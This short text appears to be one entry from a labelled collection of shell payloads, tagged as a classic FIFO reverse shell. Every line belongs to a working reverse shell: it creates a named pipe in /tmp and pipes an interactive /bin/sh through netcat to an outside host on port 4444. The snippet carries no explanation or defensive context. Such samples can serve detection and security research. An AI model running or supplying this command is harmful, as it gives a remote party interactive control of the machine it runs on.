# class: reverse shell by fifo; style: classic
rm -f /tmp/f
mkfifo /tmp/f
cat /tmp/f | /bin/sh -i 2>&1 | nc 198.51.100.60 4444 > /tmp/f
